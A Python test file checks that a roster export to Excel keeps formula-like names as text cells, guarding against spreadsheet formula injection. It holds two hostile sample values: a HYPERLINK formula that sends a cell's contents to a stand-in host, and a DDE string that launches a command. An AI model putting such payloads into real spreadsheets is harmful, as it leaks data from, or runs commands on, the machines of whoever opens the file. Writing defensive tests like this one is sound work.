"""A roster export cannot attack whoever opens it: formula-like text stays text."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from shuping.conftest import Cast
from shuping.organizations.models import Organization, Person
from shuping.organizations.roster_export import export_roster

EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'


def test_formula_like_names_are_exported_as_text(cast: Cast) -> None:
    Organization.objects.filter(pk=cast.branch.pk).update(name="+cmd|' /C calc'!A0")
    Person.objects.filter(pk=cast.reporter_person.pk).update(name=EVIL)
    _, _, content = export_roster(cast.street, viewer=cast.street_organizer)
    wb = load_workbook(io.BytesIO(content))
    cells = [c for ws in (wb["组织"], wb["人员"]) for row in ws.iter_rows() for c in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in risky} >= {EVIL, "+cmd|' /C calc'!A0"}
    assert all(c.data_type == "s" for c in risky)
